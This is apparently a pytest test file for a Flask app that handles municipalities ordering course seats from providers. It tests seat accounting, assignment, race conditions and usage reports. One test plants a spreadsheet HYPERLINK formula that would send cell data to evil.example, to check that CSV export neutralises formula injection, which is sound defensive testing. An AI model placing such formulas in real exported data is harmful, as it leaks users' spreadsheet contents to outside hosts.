"""Seat orders between municipalities and providers: accounting, assignment, reports, races."""

from __future__ import annotations

import csv
import io
import itertools
import re
import threading
from datetime import UTC, date, datetime, time, timedelta

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import event, func, select

from tests.conftest import login_as
from webapp.accounts.models import Role, User
from webapp.classes import services as class_services
from webapp.classes.models import Booking, BookingStatus, Modality
from webapp.clock import oslo_today
from webapp.csv_files import safe_cell
from webapp.extensions import db
from webapp.learners.levels import Level
from webapp.organisations.models import OrganisationKind
from webapp.seats import rules, services
from webapp.seats.models import (
    Offering,
    OfferingKind,
    OrderStatus,
    Seat,
    SeatAssignment,
    SeatOrder,
)

EXAMPLES = itertools.count(1)

# Pure rules ------------------------------------------------------------------------------------


@given(for_sale=st.integers(0, 500), held=st.integers(0, 800), wanted=st.integers(-5, 600))
def test_seats_left_is_never_negative_and_holding_never_oversells(for_sale, held, wanted):
    assert rules.seats_left(for_sale, held) >= 0
    assert rules.seats_left(for_sale, held) <= for_sale
    if rules.may_hold(for_sale, held, wanted):
        assert held + wanted <= for_sale
        assert wanted > 0


def test_month_helpers():
    assert rules.month_starts(date(2026, 11, 15), date(2027, 2, 1)) == [
        date(2026, 11, 1),
        date(2026, 12, 1),
        date(2027, 1, 1),
        date(2027, 2, 1),
    ]
    assert rules.month_end(date(2028, 2, 1)) == date(2028, 2, 29)
    assert rules.overlaps_month(date(2026, 1, 31), date(2026, 2, 1), date(2026, 2, 1))
    assert not rules.overlaps_month(date(2026, 3, 1), None, date(2026, 2, 1))
    assert rules.overlaps_month(date(2025, 3, 1), None, date(2026, 2, 1))


def test_monthly_use_counts_bought_used_idle_and_cost():
    months = rules.month_starts(date(2026, 1, 1), date(2026, 4, 30))
    orders = [
        rules.OrderPeriod(1, 5, 2000, date(2026, 1, 15), date(2026, 3, 10)),
        rules.OrderPeriod(1, 2, 1000, date(2026, 3, 1), date(2026, 4, 30)),
    ]
    uses = [
        rules.UsePeriod(1, 10, date(2026, 1, 20), date(2026, 2, 5)),
        rules.UsePeriod(1, 10, date(2026, 2, 10), None),  # the same seat again: counted once
        rules.UsePeriod(1, 11, date(2026, 3, 2), date(2026, 3, 3)),
    ]
    rows = rules.monthly_use(orders, uses, months)
    assert [(r.month.month, r.bought, r.used, r.idle, r.cost_nok) for r in rows] == [
        (1, 5, 1, 4, 10_000),
        (2, 5, 1, 4, 0),
        (3, 7, 2, 5, 2_000),
        (4, 2, 1, 1, 0),
    ]


# Services --------------------------------------------------------------------------------------


@pytest.fixture
def provider(factory):
    return factory.organisation(OrganisationKind.PROVIDER, "Nordlys")


@pytest.fixture
def seller(factory, provider):
    return factory.user(Role.PROVIDER_ADMIN, provider)


@pytest.fixture
def municipality(factory):
    return factory.organisation(OrganisationKind.MUNICIPALITY, "Flesberg")


@pytest.fixture
def coordinator(factory, municipality):
    return factory.user(Role.COORDINATOR, municipality)


def licence(seller, seats: int = 5, price: int = 3000) -> Offering:
    offering = services.create_offering(
        seller,
        services.OfferingInput(
            kind=OfferingKind.LICENCE,
            title="Selvstudium med oppfølging",
            description="",
            series_id=None,
            months=6,
            price_nok=price,
            seats_for_sale=seats,
        ),
    )
    db.session.commit()
    return offering


def evening_class(factory, provider, capacity: int):
    teacher = factory.user(Role.TEACHER, provider)
    first = oslo_today() + timedelta(days=7)
    series = class_services.create_series(
        teacher,
        class_services.SeriesInput(
            title="Kveldskurs A2",
            description="",
            level=Level.A2,
            track=None,
            modality=Modality.ONLINE,
            address="",
            meeting_link="https://meet.example.org/a2",
            capacity=capacity,
            teacher_id=teacher.id,
            weekdays=frozenset({first.weekday()}),
            start_local=time(18),
            end_local=time(20),
            first_date=first,
            last_date=first + timedelta(days=21),
            extra_dates=frozenset(),
            cancelled_dates=frozenset(),
            drop_in_allowed=False,
            seat_price_nok=2500,
        ),
    )
    db.session.commit()
    return series


def order(coordinator, offering, seats):
    result = services.place_order(
        coordinator, offering, seats, oslo_today(), oslo_today() + timedelta(days=180)
    )
    db.session.commit()
    return result


def test_pending_orders_hold_seats_and_declined_ones_free_them(seller, coordinator):
    offering = licence(seller, seats=5)
    first = order(coordinator, offering, 3)
    assert services.seats_left(offering) == 2
    with pytest.raises(services.SeatError) as refused:
        services.place_order(coordinator, offering, 3, oslo_today(), oslo_today())
    assert refused.value.code == "not_enough_seats"
    db.session.rollback()
    services.decide_order(seller, first, accept=False)
    db.session.commit()
    assert services.seats_left(offering) == 5


def test_accepting_an_order_fills_the_pool_and_cannot_happen_twice(seller, coordinator):
    offering = licence(seller, seats=5)
    placed = order(coordinator, offering, 3)
    services.decide_order(seller, placed, accept=True)
    db.session.commit()
    pool = services.seat_pool(coordinator)
    assert [item.seat.number for item in pool] == [1, 2, 3]
    assert all(item.holder is None for item in pool)
    with pytest.raises(services.SeatError) as refused:
        services.decide_order(seller, placed, accept=True)
    assert refused.value.code == "already_decided"


def test_another_provider_cannot_decide_and_another_municipality_sees_no_seats(
    factory, seller, coordinator
):
    offering = licence(seller)
    placed = order(coordinator, offering, 2)
    stranger = factory.user(Role.PROVIDER_ADMIN, factory.organisation(OrganisationKind.PROVIDER))
    with pytest.raises(services.SeatError):
        services.decide_order(stranger, placed, accept=True)
    db.session.rollback()
    services.decide_order(seller, placed, accept=True)
    db.session.commit()
    neighbour = factory.user(Role.COORDINATOR)
    assert services.seat_pool(neighbour) == []
    assert db.session.scalars(services.orders_visible_to(neighbour)).all() == []


def test_a_seat_holds_one_learner_at_a_time_and_keeps_its_history(
    factory, seller, coordinator, municipality
):
    offering = licence(seller)
    placed = order(coordinator, offering, 1)
    services.decide_order(seller, placed, accept=True)
    db.session.commit()
    [item] = services.seat_pool(coordinator)
    first, second = factory.learner(home=municipality), factory.learner(home=municipality)
    held = services.assign_seat(coordinator, item.seat, first.id)
    db.session.commit()
    with pytest.raises(services.SeatError) as refused:
        services.assign_seat(coordinator, item.seat, second.id)
    assert refused.value.code == "seat_taken"
    db.session.rollback()
    services.release_seat(coordinator, held)
    services.assign_seat(coordinator, item.seat, second.id)
    db.session.commit()
    history = services.seat_history(item.seat)
    assert [a.learner_id for a in history] == [second.id, first.id]
    assert history[1].released_at is not None
    assert history[0].released_at is None
    outsider = factory.learner()  # another municipality's learner
    with pytest.raises(services.SeatError) as refused:
        services.assign_seat(coordinator, item.seat, outsider.id)
    assert refused.value.code in ("unknown_learner", "seat_taken")


def test_class_seats_book_the_learner_and_keep_the_class_within_its_places(
    factory, provider, seller, coordinator, municipality
):
    series = evening_class(factory, provider, capacity=3)
    # A payer behind every booking: direct bookings of this priced class come from the
    # provider's own municipality's learners (it pays through its own provider).
    walk_in = factory.learner(home=provider)
    class_services.book_series(walk_in, series)
    db.session.commit()
    offering = services.create_offering(
        seller,
        services.OfferingInput(
            kind=OfferingKind.CLASS_SEAT,
            title="Plass i kveldskurs A2",
            description="",
            series_id=series.id,
            months=None,
            price_nok=2500,
            seats_for_sale=3,
        ),
    )
    db.session.commit()
    assert services.seats_left(offering) == 2  # one place is already booked directly
    placed = order(coordinator, offering, 2)
    # The class is now full for direct bookings: the municipality's seats are held.
    late = class_services.book_series(factory.learner(home=provider), series)
    assert late.status is BookingStatus.WAITLISTED
    services.decide_order(seller, placed, accept=True)
    db.session.commit()
    learner = factory.learner(home=municipality)
    [first_seat, _second] = services.seat_pool(coordinator)
    held = services.assign_seat(coordinator, first_seat.seat, learner.id)
    db.session.commit()
    booking = db.session.get(Booking, held.booking_id)
    assert booking.status is BookingStatus.CONFIRMED
    assert booking.seat_held
    assert not class_services.may_self_cancel(booking, booking.created_at)
    assert class_services.seat_count(series.id).series == 3  # 1 direct + 2 held, never 4
    services.release_seat(coordinator, held)
    db.session.commit()
    db.session.refresh(booking)
    assert booking.status is BookingStatus.CANCELLED
    assert class_services.seat_count(series.id).series == 3  # the seat stays bought


def test_an_offering_cannot_sell_more_than_the_class_has_places(factory, provider, seller):
    series = evening_class(factory, provider, capacity=4)
    with pytest.raises(services.SeatError) as refused:
        services.create_offering(
            seller,
            services.OfferingInput(
                kind=OfferingKind.CLASS_SEAT,
                title="For mange",
                description="",
                series_id=series.id,
                months=None,
                price_nok=1,
                seats_for_sale=5,
            ),
        )
    assert refused.value.code == "more_than_capacity"


def test_simultaneous_orders_never_oversell(app: Flask, factory, seller):
    offering = licence(seller, seats=10)
    coordinators = [
        factory.user(Role.COORDINATOR, factory.organisation(OrganisationKind.MUNICIPALITY)).id
        for _ in range(8)
    ]
    offering_id = offering.id
    db.session.remove()
    barrier = threading.Barrier(len(coordinators))
    outcomes: list[str] = []

    def run(user_id: int) -> None:
        with app.app_context():
            try:
                barrier.wait()
                actor = db.session.get(User, user_id)
                services.place_order(
                    actor, db.session.get(Offering, offering_id), 3, oslo_today(), oslo_today()
                )
                db.session.commit()
                outcomes.append("ordered")
            except services.SeatError as refusal:
                db.session.rollback()
                outcomes.append(refusal.code)
            except Exception as error:  # noqa: BLE001  (asserted below)
                db.session.rollback()
                outcomes.append(repr(error))
            finally:
                db.session.remove()

    threads = [threading.Thread(target=run, args=(user_id,)) for user_id in coordinators]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert sorted(outcomes) == ["not_enough_seats"] * 5 + ["ordered"] * 3
    held = db.session.scalar(
        select(func.sum(SeatOrder.seats)).where(SeatOrder.offering_id == offering_id)
    )
    assert held == 9


# Reports ---------------------------------------------------------------------------------------


def _statements(function) -> int:
    count = []

    def listener(*_args, **_kwargs) -> None:
        count.append(1)

    event.listen(db.engine, "before_cursor_execute", listener)
    try:
        function()
    finally:
        event.remove(db.engine, "before_cursor_execute", listener)
    return len(count)


def _fill(factory, seller, coordinator, municipality, learners: int) -> None:
    offering = licence(seller, seats=learners)
    placed = services.place_order(
        coordinator, offering, learners, date(2026, 1, 1), date(2026, 12, 31)
    )
    services.decide_order(seller, placed, accept=True)
    db.session.flush()
    seats = db.session.scalars(select(Seat).where(Seat.order_id == placed.id)).all()
    people = [factory.learner(home=municipality) for _ in range(min(learners, 20))]
    for index, seat in enumerate(seats):  # a few learners, each holding many seats over time
        db.session.add(
            SeatAssignment(
                seat_id=seat.id,
                learner_id=people[index % len(people)].id,
                assigned_at=datetime(2026, 6, 1, 8, tzinfo=UTC),
            )
        )
    db.session.commit()


def test_the_seat_report_costs_the_same_statements_for_20_and_2000_learners(
    factory, seller, coordinator, municipality
):
    big_town = factory.organisation(OrganisationKind.MUNICIPALITY, "Drammen")
    big_coordinator = factory.user(Role.COORDINATOR, big_town)
    _fill(factory, seller, coordinator, municipality, 20)
    _fill(factory, seller, big_coordinator, big_town, 2000)
    db.session.expire_all()
    small = _statements(lambda: services.seat_report(municipality.id, 2026))
    db.session.expire_all()
    big = _statements(lambda: services.seat_report(big_town.id, 2026))
    assert small == big
    report = services.seat_report(big_town.id, 2026)
    assert {row.bought for row in report.rows} == {2000}
    # The seats were given out on 1 June: used from June on.
    assert [row.used for row in report.rows] == [0] * 5 + [2000] * 7
    assert report.total_cost == 2000 * 3000


def test_the_report_page_has_the_chart_and_the_csv_the_rows(
    client, factory, seller, coordinator, municipality
):
    _fill(factory, seller, coordinator, municipality, 3)
    login_as(client, coordinator)
    client.post("/language", data={"locale": "en"})
    page = client.get("/seats/report?year=2026").get_data(as_text=True)
    assert "<svg" in page
    assert "<script" not in page
    assert "NOK" in page
    csv_body = client.get("/seats/report.csv?year=2026").get_data(as_text=True)
    lines = csv_body.lstrip("\ufeff").strip().splitlines()
    assert lines[0] == "Offering;Provider;Month;Bought;Used;Idle;Cost (NOK)"
    assert len(lines) == 1 + 12
    assert lines[1] == "Selvstudium med oppfølging;Nordlys;2026-01;3;0;3;9000"
    assert lines[6] == "Selvstudium med oppfølging;Nordlys;2026-06;3;3;0;0"


def test_the_seat_report_csv_never_carries_a_formula(
    client, factory, seller, coordinator, municipality
):
    _fill(factory, seller, coordinator, municipality, 1)
    offering = db.session.scalar(select(Offering))
    offering.title = '=HYPERLINK("https://evil.example/?"&A1;"Klikk")'
    offering.provider.name = "@SUM(1+1)"
    db.session.commit()
    login_as(client, coordinator)
    body = client.get("/seats/report.csv?year=2026").get_data(as_text=True)
    first_row = next(csv.reader(io.StringIO(body.lstrip("\ufeff").splitlines()[1]), delimiter=";"))
    assert first_row[0] == "'" + offering.title
    assert first_row[1] == "'@SUM(1+1)"


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+47 900 00 000", "'+47 900 00 000"),
        ("-2", "'-2"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("Olena Kovalenko", "Olena Kovalenko"),
        ("", ""),
    ],
)
def test_safe_cell(typed, cell):
    assert safe_cell(typed) == cell


def test_the_coordinator_orders_and_assigns_through_the_pages(
    client, factory, seller, coordinator, municipality
):
    offering = licence(seller, seats=4)
    learner = factory.learner(home=municipality, email="nadia@example.org")
    login_as(client, coordinator)
    today = oslo_today()
    period = {"first_day": today.isoformat(), "last_day": today.isoformat()}
    placed = client.post(
        f"/offerings/{offering.id}/orders",
        data={"seats": "2", **period, "price_seen": "3000", "confirm": "1"},
    )
    assert placed.status_code == 302
    too_many = client.post(
        f"/offerings/{offering.id}/orders",
        data={"seats": "3", **period, "price_seen": "3000", "confirm": "1"},
    )
    assert too_many.status_code == 400
    pending = db.session.scalar(select(SeatOrder))
    login_as(client, seller)
    assert client.post(f"/orders/{pending.id}/accept").status_code == 302
    db.session.refresh(pending)
    assert pending.status is OrderStatus.ACCEPTED
    login_as(client, coordinator)
    seat = db.session.scalar(select(Seat).order_by(Seat.number))
    given_away = client.post(f"/seats/{seat.id}/assign", data={"email": "Nadia@example.org"})
    assert given_away.status_code == 302
    pool = client.get("/seats").get_data(as_text=True)
    assert learner.name in pool
    holder = db.session.scalar(select(SeatAssignment))
    assert client.post(f"/seat-assignments/{holder.id}/release").status_code == 302
    assert learner.name in client.get(f"/seats/{seat.id}").get_data(as_text=True)


def test_orders_are_refused_for_closed_offerings(seller, coordinator):
    offering = licence(seller)
    services.set_offering_active(seller, offering, False)
    db.session.commit()
    with pytest.raises(services.SeatError) as refused:
        services.place_order(coordinator, offering, 1, oslo_today(), oslo_today())
    assert refused.value.code == "offering_closed"


@settings(max_examples=30, deadline=None)
@given(
    steps=st.lists(
        st.tuples(st.sampled_from(["order", "accept", "decline", "withdraw"]), st.integers(1, 4)),
        max_size=12,
    )
)
def test_random_order_sequences_never_oversell_the_offering(app, steps):
    """Whatever coordinators and the provider do, held seats stay within what was offered."""
    with app.app_context():
        from tests.conftest import Factory

        factory = Factory()
        factory._counter = itertools.count(next(EXAMPLES) * 100)
        provider = factory.organisation(OrganisationKind.PROVIDER)
        seller = factory.user(Role.PROVIDER_ADMIN, provider)
        coordinator = factory.user(Role.COORDINATOR)
        offering = licence(seller, seats=6)
        for action, size in steps:
            pending = db.session.scalar(
                select(SeatOrder).where(SeatOrder.status == OrderStatus.PENDING).limit(1)
            )
            try:
                if action == "order":
                    services.place_order(coordinator, offering, size, oslo_today(), oslo_today())
                elif pending is not None and action in ("accept", "decline"):
                    services.decide_order(seller, pending, accept=action == "accept")
                elif pending is not None:
                    services.withdraw_order(coordinator, pending)
                db.session.commit()
            except services.SeatError:
                db.session.rollback()
            held = services.held_seats([offering.id]).get(offering.id, 0)
            assert 0 <= held <= offering.seats_for_sale
            assert services.seats_left(offering) == offering.seats_for_sale - held


def test_an_order_shows_its_total_period_and_provider_before_it_is_placed(
    client, seller, coordinator
):
    offering = licence(seller, seats=10, price=3000)
    login_as(client, coordinator)
    url = f"/offerings/{offering.id}/orders"
    data = {"seats": "4", "first_day": "2030-01-01", "last_day": "2030-06-30", "note": "Takk"}
    shown = client.post(url, data=data)
    page = shown.get_data(as_text=True)
    assert shown.status_code == 200
    assert db.session.scalar(select(func.count(SeatOrder.id))) == 0  # nothing ordered yet
    total = re.search(r'<strong id="order-total">(.*?)</strong>', page).group(1)
    assert total == "4 × 3\u00a0000\u00a0kr = 12\u00a0000\u00a0kr"
    assert "Nordlys" in page
    assert "1. januar 2030–30. juni 2030" in page
    assert 'name="price_seen" value="3000"' in page
    # Changing goes back to the form with what was typed.
    changed = client.post(url, data={**data, "change": "1"}).get_data(as_text=True)
    assert 'name="seats" type="number" value="4"' in changed or 'value="4"' in changed
    assert db.session.scalar(select(func.count(SeatOrder.id))) == 0
    # A price changed since it was shown is shown again, not ordered.
    offering.price_nok = 3500
    db.session.commit()
    again = client.post(url, data={**data, "price_seen": "3000", "confirm": "1"})
    assert again.status_code == 200
    assert "14\u00a0000\u00a0kr" in again.get_data(as_text=True)
    assert db.session.scalar(select(func.count(SeatOrder.id))) == 0
    confirmed = client.post(url, data={**data, "price_seen": "3500", "confirm": "1"})
    assert confirmed.status_code == 302
    placed = db.session.scalar(select(SeatOrder))
    assert (placed.seats, placed.unit_price_nok, placed.note) == (4, 3500, "Takk")
    assert placed.last_day == date(2030, 6, 30)


def test_an_order_for_more_seats_than_are_left_is_refused_before_the_total(
    client, seller, coordinator
):
    offering = licence(seller, seats=2)
    login_as(client, coordinator)
    client.post("/language", data={"locale": "en"})
    refused = client.post(
        f"/offerings/{offering.id}/orders",
        data={"seats": "3", "first_day": "2030-01-01", "last_day": "2030-01-31"},
    )
    assert refused.status_code == 400
    assert "There are not that many seats left." in refused.get_data(as_text=True)
